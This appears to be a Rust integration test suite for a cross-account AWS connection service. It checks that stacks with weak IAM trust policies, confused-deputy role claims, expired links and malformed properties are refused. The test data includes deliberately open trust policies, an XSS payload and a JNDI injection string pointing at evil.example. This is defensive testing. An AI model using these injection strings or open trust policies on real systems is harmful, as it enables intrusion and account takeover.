//! Roles, accounts and links that are not accepted: the stack fails with a sentence, the link waits again, and nothing
//! else changes. Every stack here runs through CloudFormation with the customer's own session.

use std::time::{Duration, Instant};

use futures::future::try_join_all;
use latchkey_shared::domain::reason::ReasonCode;
use latchkey_tests::{
    Error,
    customer::Customer,
    scene::{Scene, settled, text},
    stack_template::{PUBLISHED_ACTIONS, StackTemplate, trust_policy},
};
use serde_json::{Value, json};

/// A stack that waits so short that a role which is not assumable is refused at the first try.
const IMPATIENT: u32 = 30;

/// The state that a refused attempt leaves: the link waits again, and nothing of the attempt is bound.
fn assert_waits_again(connection: &Value, code: ReasonCode) {
    assert_eq!(connection["status"], "pending", "{connection}");
    assert_eq!(connection["reason"]["code"], code.as_str());
    assert!(
        connection["reason"]["message"]
            .as_str()
            .is_some_and(|message| message.contains(code.sentence()))
    );
    assert_eq!(connection["role_arn"], Value::Null);
    assert_eq!(connection["stack_id"], Value::Null);
    assert_eq!(connection["last_verified_at"], Value::Null);
    assert!(
        connection["launch_url"].is_string(),
        "the same link can be used again"
    );
}

/// Launches a template that is refused, in an account of its own, and looks at what is left.
async fn refused(
    scene: &Scene,
    case: &str,
    code: ReasonCode,
    change: impl Fn(StackTemplate, &Customer) -> StackTemplate,
) -> Result<(), Error> {
    let api = scene.acme()?;
    let link = scene.link(&api, "us-east-1").await?;
    let customer = scene.new_customer("us-east-1").await?;
    let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?);
    let outcome = customer.launch("Refused", &change(template, &customer)).await?;
    outcome
        .expect_refusal("ROLLBACK_COMPLETE", code)
        .map_err(|error| format!("{case}: {error}"))?;

    let shown = api.get(&text(&link, "id")?).await?;
    assert_waits_again(&shown, code);
    for field in [
        "external_id",
        "name",
        "expires_at",
        "created_at",
        "launch_url",
        "account_id",
    ] {
        assert_eq!(shown[field], link[field], "{case}: {field}");
    }
    Ok(())
}

#[tokio::test]
async fn a_role_without_the_external_id_condition_fails_its_stack_and_the_link_works_again()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let link = scene.link(&api, "eu-west-1").await?;
    let (id, customer) = (text(&link, "id")?, scene.new_customer("eu-west-1").await?);
    let good = StackTemplate::new(&scene.ready, &text(&link, "external_id")?);
    let bad = good.clone().condition(json!({ "ArnLike": good.vendor_roles() }));

    let outcome = customer.launch("Open", &bad).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::ExternalIdNotEnforced)?;
    // The reason is stored when the stack's bucket took it: a moment after the stack has read it.
    let waiting = api.wait_until(&id, |shown| !shown["reason"].is_null()).await?;
    assert_waits_again(&waiting, ReasonCode::ExternalIdNotEnforced);
    assert_eq!(
        scene.audit_events(&id).await?,
        ["created", "attempt_started", "attempt_refused"]
    );

    customer
        .delete_stack(&outcome.stack_id)
        .await?
        .expect("DELETE_COMPLETE")?;
    assert_waits_again(&api.get(&id).await?, ReasonCode::ExternalIdNotEnforced);

    customer.launch("Open", &good).await?.expect("CREATE_COMPLETE")?;
    let shown = api.get(&id).await?;
    assert_eq!(
        (&shown["status"], &shown["reason"]),
        (&json!("active"), &Value::Null)
    );
    Ok(())
}

#[tokio::test]
async fn a_role_whose_condition_lets_others_in_is_refused_however_the_condition_is_written()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let vendor = scene.ready.vendor_account.clone();
    type Trust = Box<dyn Fn(&str, Value) -> Value>;
    let condition = |condition: fn(&str) -> Value| -> Trust {
        let vendor = vendor.clone();
        Box::new(move |external_id, roles| {
            let mut written = condition(external_id);
            written["ArnLike"] = roles;
            trust_policy(&vendor, written)
        })
    };
    let two_statements: Trust = {
        let vendor = vendor.clone();
        Box::new(move |external_id, roles| {
            let statement = |condition: Value| trust_policy(&vendor, condition)["Statement"][0].clone();
            let guarded = json!({ "ArnLike": roles, "StringEquals": { "sts:ExternalId": external_id } });
            json!({ "Version": "2012-10-17", "Statement": [statement(guarded), statement(json!({}))] })
        })
    };
    let everybody: Trust = Box::new(|_, _| {
        json!({
            "Version": "2012-10-17",
            "Statement": [{ "Effect": "Allow", "Principal": { "AWS": "*" }, "Action": "sts:AssumeRole" }],
        })
    });
    let cases: [(&str, Trust); 8] = [
        (
            "StringLike *",
            condition(|_| json!({ "StringLike": { "sts:ExternalId": "*" } })),
        ),
        (
            "StringLike ?…",
            condition(|_| json!({ "StringLike": { "sts:ExternalId": "?".repeat(32) } })),
        ),
        (
            "StringLike, ours and a wildcard",
            condition(|id| json!({ "StringLike": { "sts:ExternalId": [id, "*"] } })),
        ),
        (
            "StringEqualsIfExists",
            condition(|id| json!({ "StringEqualsIfExists": { "sts:ExternalId": id } })),
        ),
        (
            "ForAllValues:StringEquals, true where there is none",
            condition(|id| json!({ "ForAllValues:StringEquals": { "sts:ExternalId": id } })),
        ),
        (
            "StringNotEquals",
            condition(|_| json!({ "StringNotEquals": { "sts:ExternalId": "something-else" } })),
        ),
        (
            "a second statement that opens the role to the account",
            two_statements,
        ),
        ("everybody", everybody),
    ];
    let attempts = cases.iter().map(|(case, trust)| {
        refused(
            &scene,
            case,
            ReasonCode::ExternalIdNotEnforced,
            move |template, _| {
                let connection: Value = serde_json::from_str(&template.text()).unwrap_or_default();
                let external_id = connection["Resources"]["Connection"]["Properties"]["ExternalId"].clone();
                let trust = trust(external_id.as_str().unwrap_or_default(), template.vendor_roles());
                template.trust(trust)
            },
        )
    });
    try_join_all(attempts).await?;
    Ok(())
}

/// What the probes can see is that a *fresh* external ID is refused, which is what keeps others out (I3). A list of
/// further values is the customer's own choice and closes nobody's door; a role still belongs to one connection.
#[tokio::test]
async fn a_role_that_names_further_external_ids_connects_once_and_belongs_to_one_connection()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let (acme, globex) = (scene.acme()?, scene.globex()?);
    let (first, second) = (
        scene.link(&acme, "us-east-1").await?,
        scene.link(&globex, "us-east-1").await?,
    );
    let customer = scene.new_customer("us-east-1").await?;
    let template = StackTemplate::new(&scene.ready, &text(&first, "external_id")?).role_name("Shared");
    let both = json!([first["external_id"], second["external_id"]]);
    let trust = template.clone().condition(json!({
        "ArnLike": template.vendor_roles(),
        "StringEquals": { "sts:ExternalId": both },
    }));
    customer
        .launch("First", &trust)
        .await?
        .expect("CREATE_COMPLETE")?;
    let before = settled(&acme.get(&text(&first, "id")?).await?);
    assert_eq!(before["status"], "active");

    let greedy = StackTemplate::new(&scene.ready, &text(&second, "external_id")?)
        .claims_role(&customer.role_arn("Shared"));
    let outcome = customer.launch("Second", &greedy).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::RoleAlreadyConnected)?;
    assert_waits_again(
        &globex.get(&text(&second, "id")?).await?,
        ReasonCode::RoleAlreadyConnected,
    );
    assert_eq!(settled(&acme.get(&text(&first, "id")?).await?), before);
    Ok(())
}

#[tokio::test]
async fn a_role_that_never_becomes_assumable_fails_its_stack_with_a_sentence_at_the_deadline()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let started = Instant::now();
    refused(
        &scene,
        "another vendor's role",
        ReasonCode::RoleNotAssumable,
        |template, _| {
            let trust = trust_policy("123456789012", template.published_condition());
            template.trust(trust)
        },
    )
    .await?;
    let waited = started.elapsed();
    // 30 seconds in the local deployment; the stack itself would wait for 60.
    assert!(
        waited > Duration::from_secs(25),
        "a role gets the time to become assumable, not {waited:?}"
    );
    assert!(
        waited < Duration::from_secs(50),
        "the answer comes before CloudFormation gives up, not {waited:?}"
    );
    Ok(())
}

#[tokio::test]
async fn a_role_that_is_not_there_or_asks_for_another_external_id_is_refused() -> Result<(), Error> {
    let scene = Scene::open()?;
    let code = ReasonCode::RoleNotAssumable;
    let elsewhere = |template: StackTemplate, _: &Customer| {
        let condition = json!({
            "ArnLike": template.vendor_roles(),
            "StringEquals": { "sts:ExternalId": "tz4a98xxat96iws9zmbrgj3atz4a98xx" },
        });
        template.condition(condition).service_timeout(IMPATIENT)
    };
    let upper_case = |template: StackTemplate, _: &Customer| {
        let condition = template.published_condition();
        let id = condition["StringEquals"]["sts:ExternalId"]
            .as_str()
            .unwrap_or_default()
            .to_uppercase();
        let condition = json!({ "StringEquals": { "sts:ExternalId": id } });
        template.condition(condition).service_timeout(IMPATIENT)
    };
    let missing = |template: StackTemplate, customer: &Customer| {
        template
            .claims_role(&customer.role_arn("Nowhere"))
            .service_timeout(IMPATIENT)
    };
    futures::try_join!(
        refused(&scene, "another external ID", code, elsewhere),
        refused(&scene, "the external ID in upper case", code, upper_case),
        refused(&scene, "no such role", code, missing),
    )?;
    Ok(())
}

#[tokio::test]
async fn an_account_that_is_connected_is_refused_and_its_connection_is_not_touched_by_the_rollback()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let first = scene.connect(&api, "eu-west-1").await?;
    let audit = scene.audit_events(&first.id).await?;
    let second = scene.link(&api, "eu-west-1").await?;
    let template = StackTemplate::new(&scene.ready, &text(&second, "external_id")?);

    let outcome = first.customer.launch("Again", &template).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::AccountAlreadyConnected)?;
    assert_eq!(settled(&api.get(&first.id).await?), settled(&first.shown));
    assert_waits_again(
        &api.get(&text(&second, "id")?).await?,
        ReasonCode::AccountAlreadyConnected,
    );

    first
        .customer
        .delete_stack(&outcome.stack_id)
        .await?
        .expect("DELETE_COMPLETE")?;
    assert_eq!(settled(&api.get(&first.id).await?), settled(&first.shown));
    assert_eq!(scene.audit_events(&first.id).await?, audit);

    // The account is free again once the first stack is gone, and the refused link still works.
    first
        .customer
        .delete_stack(&first.stack.stack_id)
        .await?
        .expect("DELETE_COMPLETE")?;
    api.wait_for(&first.id, "disconnected").await?;
    first
        .customer
        .launch("Again", &template)
        .await?
        .expect("CREATE_COMPLETE")?;
    assert_eq!(api.get(&text(&second, "id")?).await?["status"], "active");
    Ok(())
}

#[tokio::test]
async fn a_link_made_for_one_account_is_refused_in_another_and_works_in_its_own() -> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let owner = scene.new_customer("us-east-1").await?;
    let body = json!({ "name": "For one account", "region": "us-east-1", "account_id": owner.account });
    let link = api.create(&body).await?;
    assert_eq!(link["account_id"], owner.account);
    let thief = scene.new_customer("us-east-1").await?;

    let url = text(&link, "launch_url")?;
    let stack = thief.open(&url, None).await?;
    let outcome = thief.wait(&stack).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::AccountMismatch)?;
    let shown = api.get(&text(&link, "id")?).await?;
    assert_waits_again(&shown, ReasonCode::AccountMismatch);
    assert_eq!(
        shown["account_id"], owner.account,
        "the thief's account is not shown as the connection's"
    );

    let stack = owner.open(&url, None).await?;
    owner.wait(&stack).await?.expect("CREATE_COMPLETE")?;
    assert_eq!(api.get(&text(&link, "id")?).await?["status"], "active");
    Ok(())
}

#[tokio::test]
async fn an_expired_link_is_refused_and_stays_expired() -> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let link = scene.link(&api, "us-east-1").await?;
    let (id, url) = (text(&link, "id")?, text(&link, "launch_url")?);
    scene.expire_link("acme", &id).await?;
    let shown = api.get(&id).await?;
    assert_eq!(shown["status"], "expired");
    assert!(
        shown.get("launch_url").is_none(),
        "an expired link is not offered any more"
    );

    let customer = scene.new_customer("us-east-1").await?;
    let stack = customer.open(&url, None).await?;
    customer
        .wait(&stack)
        .await?
        .expect_refusal("ROLLBACK_COMPLETE", ReasonCode::LinkExpired)?;
    let shown = api.get(&id).await?;
    assert_eq!(shown["status"], "expired");
    assert_eq!(shown["role_arn"], Value::Null);
    Ok(())
}

#[tokio::test]
async fn an_external_id_that_was_never_issued_is_refused_at_once() -> Result<(), Error> {
    let scene = Scene::open()?;
    let customer = scene.new_customer("us-east-1").await?;
    for (name, external_id) in [
        ("Guessed", "tz4a98xxat96iws9zmbrgj3atz4a98xx"),
        ("Chosen", "MyOwnSecret"),
    ] {
        let started = Instant::now();
        let outcome = customer
            .launch(name, &StackTemplate::new(&scene.ready, external_id))
            .await?;
        outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::ExternalIdUnknown)?;
        assert!(started.elapsed() < Duration::from_secs(10));
        let left = scene.items_about(&outcome.stack_id).await?;
        assert!(left.is_empty(), "a guess leaves nothing behind, not {left:?}");
    }
    Ok(())
}

#[tokio::test]
async fn a_role_in_another_account_than_the_stack_is_refused_even_if_it_would_be_assumable()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let link = scene.link(&api, "us-east-1").await?;
    let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?);
    let other = scene.new_customer("us-east-1").await?;
    let role = other.make_role("Elsewhere", &template.published_trust()).await?;
    let customer = scene.new_customer("us-east-1").await?;
    let outcome = customer.launch("Borrowed", &template.claims_role(&role)).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::RoleInOtherAccount)?;
    let shown = api.get(&text(&link, "id")?).await?;
    assert_eq!(
        (&shown["status"], &shown["role_arn"]),
        (&json!("pending"), &Value::Null)
    );
    Ok(())
}

/// The confused deputy: a customer of one tenant offers the role of another tenant's customer as their own.
#[tokio::test]
async fn a_tenant_cannot_connect_the_role_of_another_tenants_customer() -> Result<(), Error> {
    let scene = Scene::open()?;
    let (acme, globex) = (scene.acme()?, scene.globex()?);
    let victim = scene.connect(&acme, "us-east-1").await?;
    let victims_role = victim.customer.role_arn(latchkey_tests::scene::Connected::ROLE);
    let link = scene.link(&globex, "us-east-1").await?;
    let (id, external_id) = (text(&link, "id")?, text(&link, "external_id")?);
    let attacker = scene.new_customer("us-east-1").await?;

    // From the attacker's own account, under their own external ID, and under the victim's.
    let own = StackTemplate::new(&scene.ready, &external_id).claims_role(&victims_role);
    let outcome = attacker.launch("Deputy", &own).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::RoleInOtherAccount)?;
    let stolen = StackTemplate::new(&scene.ready, &victim.external_id);
    let outcome = attacker.launch("Stolen", &stolen).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::LinkAlreadyUsed)?;
    // From a stack in the victim's account: that role asks for the external ID of the first connection.
    let inside = own.service_timeout(IMPATIENT);
    let outcome = victim.customer.launch("Inside", &inside).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::RoleNotAssumable)?;

    assert_waits_again(&globex.get(&id).await?, ReasonCode::RoleNotAssumable);
    assert_eq!(settled(&acme.get(&victim.id).await?), settled(&victim.shown));
    Ok(())
}

#[tokio::test]
async fn two_tenants_connect_one_account_each_with_a_role_of_its_own_and_do_not_see_each_other()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let (acme, globex) = (scene.acme()?, scene.globex()?);
    let first = scene.connect(&acme, "us-east-1").await?;
    let link = scene.link(&globex, "us-east-1").await?;
    let stack = first
        .customer
        .open(&text(&link, "launch_url")?, Some("Other-Tenant"))
        .await?;
    first.customer.wait(&stack).await?.expect("CREATE_COMPLETE")?;
    let second = globex.get(&text(&link, "id")?).await?;
    assert_eq!(
        (&second["status"], &second["account_id"]),
        (&json!("active"), &json!(first.customer.account))
    );
    assert_ne!(second["role_arn"], first.shown["role_arn"]);
    assert_eq!(settled(&acme.get(&first.id).await?), settled(&first.shown));
    Ok(())
}

#[tokio::test]
async fn what_is_not_the_role_of_a_customer_is_refused_at_once() -> Result<(), Error> {
    let scene = Scene::open()?;
    let vendor = scene.ready.vendor_account.clone();
    let customers_role =
        |arn: &str, account: &str| arn.replace("ACCOUNT", account).replace("VENDOR", &vendor);
    let cases = [
        ("arn:aws:iam::ACCOUNT:user/somebody", ReasonCode::InvalidRequest),
        ("arn:aws:iam::ACCOUNT:root", ReasonCode::InvalidRequest),
        (
            "arn:aws:sts::ACCOUNT:assumed-role/Reader/session",
            ReasonCode::InvalidRequest,
        ),
        ("arn:aws-iso:iam::ACCOUNT:role/Reader", ReasonCode::InvalidRequest),
        (
            "arn:aws-cn:iam::ACCOUNT:role/Reader",
            ReasonCode::RoleInOtherAccount,
        ),
        (
            "arn:aws:iam::VENDOR:role/latchkey/verifier",
            ReasonCode::VendorAccount,
        ),
        ("arn:aws:iam::ACCOUNT:role/*", ReasonCode::InvalidRequest),
        ("", ReasonCode::InvalidRequest),
    ];
    let api = scene.acme()?;
    let attempts = cases.map(|(arn, code)| {
        let (scene, api, customers_role) = (&scene, &api, &customers_role);
        async move {
            let link = scene.link(api, "us-east-1").await?;
            let customer = scene.new_customer("us-east-1").await?;
            let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?)
                .claims_role(&customers_role(arn, &customer.account));
            let started = Instant::now();
            let outcome = customer.launch("Odd", &template).await?;
            let told = outcome.expect_refusal("ROLLBACK_COMPLETE", code);
            told.map_err(|error| format!("{arn}: {error}"))?;
            assert!(
                started.elapsed() < Duration::from_secs(10),
                "{arn} took {:?}",
                started.elapsed()
            );
            let shown = api.get(&text(&link, "id")?).await?;
            assert_eq!(
                (&shown["status"], &shown["role_arn"]),
                (&json!("pending"), &Value::Null),
                "{arn}"
            );
            Ok::<_, Error>(())
        }
    });
    try_join_all(attempts).await?;
    Ok(())
}

#[tokio::test]
async fn garbage_in_the_properties_is_told_to_the_stack_at_once_and_leaves_nothing_behind()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let long = "x".repeat(3_000);
    let cases = [
        (
            "RoleArn",
            json!(["arn:aws:iam::222222222222:role/x"]),
            "RoleArn is not a text",
        ),
        ("RoleArn", json!({ "a": { "b": "c" } }), "RoleArn is not a text"),
        (
            "RoleArn",
            json!("<script>alert(1)</script>"),
            "RoleArn is not an ARN",
        ),
        ("RoleArn", json!(long), "RoleArn is not an ARN"),
        (
            "TemplateVersion",
            json!("1.0.0\n[active]"),
            "TemplateVersion is not a version",
        ),
        ("TemplateVersion", json!(long), "TemplateVersion is not a version"),
        ("TemplateVersion", json!({}), "TemplateVersion is not a text"),
        ("ExternalId", json!(["a", "b"]), "ExternalId"),
        (
            "ExternalId",
            json!("${jndi:ldap://evil.example/a}"),
            "never issued this external ID",
        ),
    ];
    let attempts = cases.map(|(property, value, sentence)| {
        let (scene, api) = (&scene, &api);
        async move {
            let link = scene.link(api, "us-east-1").await?;
            let customer = scene.new_customer("us-east-1").await?;
            let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?);
            let started = Instant::now();
            let outcome = customer
                .launch("Garbage", &template.property(property, value.clone()))
                .await?;
            outcome.expect("ROLLBACK_COMPLETE")?;
            let told = outcome.reasons.iter().any(|reason| reason.contains(sentence));
            assert!(told, "{property} = {value}: {:?}", outcome.reasons);
            let repeated = value
                .as_str()
                .is_some_and(|value| outcome.reasons.iter().any(|r| r.contains(value)));
            assert!(
                !repeated,
                "what was sent is not repeated to whoever reads the events"
            );
            assert!(
                started.elapsed() < Duration::from_secs(10),
                "{:?}",
                started.elapsed()
            );
            let shown = api.get(&text(&link, "id")?).await?;
            assert_eq!(
                (&shown["status"], &shown["reason"]),
                (&json!("pending"), &Value::Null)
            );
            // The rollback's Delete names a genuine external ID: that it came is remembered for a while.
            let left = scene.items_about(&outcome.stack_id).await?;
            assert!(left.iter().all(|key| key.starts_with("DELETED#")), "{left:?}");
            Ok::<_, Error>(())
        }
    });
    try_join_all(attempts).await?;
    Ok(())
}

#[tokio::test]
async fn a_role_that_lacks_what_the_template_asks_for_is_refused_and_each_missing_action_is_named()
-> Result<(), Error> {
    let scene = Scene::open()?;
    let code = ReasonCode::PermissionsMissing;
    let lacking = |actions: &'static [&'static str]| {
        move |template: StackTemplate, _: &Customer| template.allows(actions).service_timeout(IMPATIENT)
    };
    futures::try_join!(
        refused(&scene, "no permissions at all", code, lacking(&[])),
        refused(
            &scene,
            "one is missing",
            code,
            lacking(&[
                "iam:GetRole",
                "iam:SimulatePrincipalPolicy",
                "ec2:DescribeRegions"
            ])
        ),
    )?;

    let api = scene.acme()?;
    let link = scene.link(&api, "us-east-1").await?;
    let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?)
        .allows(&["iam:SimulatePrincipalPolicy", "iam:GetRole"])
        .service_timeout(IMPATIENT);
    let customer = scene.new_customer("us-east-1").await?;
    let outcome = customer.launch("Lacking", &template).await?;
    outcome.expect_refusal("ROLLBACK_COMPLETE", code)?;
    for action in ["ec2:DescribeRegions", "iam:ListAccountAliases"] {
        assert!(
            outcome.reasons.iter().any(|reason| reason.contains(action)),
            "{outcome:?}"
        );
    }
    Ok(())
}

#[tokio::test]
async fn a_role_that_may_do_more_than_it_was_asked_for_connects_and_is_shown_as_that() -> Result<(), Error> {
    let scene = Scene::open()?;
    let api = scene.acme()?;
    let link = scene.link(&api, "us-east-1").await?;
    let mut actions = PUBLISHED_ACTIONS.to_vec();
    actions.extend(["s3:GetObject", "iam:CreateUser"]);
    let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?).allows(&actions);
    let customer = scene.new_customer("us-east-1").await?;
    customer
        .launch("Generous", &template)
        .await?
        .expect("CREATE_COMPLETE")?;
    let shown = api.get(&text(&link, "id")?).await?;
    assert_eq!(shown["status"], "active");
    assert_eq!(
        shown["permissions"]["excessive"],
        json!(["iam:CreateUser", "s3:GetObject"])
    );
    assert_eq!(shown["permissions"]["missing"], json!([]));
    Ok(())
}
